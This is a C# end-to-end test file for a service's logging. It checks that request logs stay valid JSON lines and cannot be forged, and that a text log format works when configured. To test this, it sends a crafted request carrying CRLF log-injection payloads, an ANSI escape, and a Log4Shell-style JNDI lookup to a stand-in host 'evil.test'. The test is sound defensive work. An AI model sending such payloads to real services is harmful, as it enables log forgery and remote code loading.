using System.Net.Sockets;
using System.Text;
using System.Text.Json;
using Vae.TestUtils;

namespace Vae.EndToEnd.Tests;

/// <summary>The log of the built service, where it does not go to a terminal.</summary>
public sealed class LogTests
{
    [Fact]
    public async Task Log_IsJsonLines_ThatNoCallerCanForge()
    {
        using var data = new TemporaryFolder();
        using ServiceProcess service = await ServiceProcess.StartAsync(data.Path, ["--no-demo"], new Dictionary<string, string> { ["Logging__Requests"] = "true" });
        await SendAsync(service, "GET /jobs/%0d%0a%7b%22level%22%3a%22forged%22%7d%1b%5b2J HTTP/1.1\r\nHost: localhost\r\nUser-Agent: ${jndi:ldap://evil.test} {\"level\":\"forged\"}\r\ntraceparent: evil\u00e9\"}\r\nConnection: close\r\n\r\n");
        await SendAsync(service, "FORGED /forged HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
        await service.WaitAsync(() => Task.FromResult(service.Output.Contains("_OTHER", StringComparison.Ordinal)), TimeSpan.FromSeconds(10), "the requests' lines");
        service.Signal("INT");
        (await service.ExitAsync(TimeSpan.FromSeconds(15))).ShouldBe(0, service.Output);

        string[] lines = service.Output.Split('\n');

        lines.ShouldAllBe(line => line.Length <= 8192 && !line.Any(char.IsControl));
        JsonElement[] events = [.. lines.Select(line => JsonElement.Parse(line))];
        events.ShouldContain(line => line.GetProperty("message").GetString()!.Contains("/swagger"), "where to look is an event too");
        JsonElement[] requests = [.. events.Where(line => line.GetProperty("category").GetString() == "Vae.Api.Telemetry.Logs.RequestLog").Select(line => line.GetProperty("fields"))];
        requests.ShouldContain(fields => fields.GetProperty("route").GetString() == "/jobs/{id}" && fields.GetProperty("status").GetInt32() == 404);
        requests.ShouldContain(fields => fields.GetProperty("method").GetString() == "_OTHER");
        foreach (string hostile in (string[])["forged", "jndi", "evil"]) service.Output.ShouldNotContain(hostile, Case.Insensitive);
    }

    [Fact]
    public async Task Log_IsText_WhenThatIsAskedFor()
    {
        using var data = new TemporaryFolder();
        using ServiceProcess service = await ServiceProcess.StartAsync(data.Path, ["--no-demo"], new Dictionary<string, string> { ["Logging__Format"] = "text" });
        await service.WaitAsync(() => Task.FromResult(service.Output.Contains("Swagger UI http", StringComparison.Ordinal)), TimeSpan.FromSeconds(10), "the banner");
        service.Output.ShouldNotContain("{\"time\"");
    }

    private static async Task SendAsync(ServiceProcess service, string request)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(System.Net.IPAddress.Loopback, service.Address.Port);
        await client.GetStream().WriteAsync(Encoding.UTF8.GetBytes(request));
        using var reader = new StreamReader(client.GetStream());
        (await reader.ReadToEndAsync()).ShouldStartWith("HTTP/1.1 4");
    }
}
